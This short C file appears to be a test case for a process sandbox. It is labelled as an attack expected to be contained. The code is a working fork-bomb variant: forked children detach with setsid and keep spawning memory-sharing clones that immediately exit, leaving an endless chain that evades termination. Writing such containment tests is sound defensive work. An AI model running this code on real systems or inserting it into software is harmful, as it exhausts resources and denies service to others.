// attack: the same with clones that share memory, which cost a tenth
// contained: as with forks
// expect: ok

#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>
static int link_of_chain(void *stack) {
    for (;;)
        if (clone(link_of_chain, (char *)malloc(16384) + 16384, CLONE_VM | SIGCHLD, 0) > 0) _exit(0);
}
int main(void) {
    for (int i = 0; i < 4; i++)
        if (fork() == 0) setsid(), link_of_chain(0);
    usleep(10000);
    return 0;
}
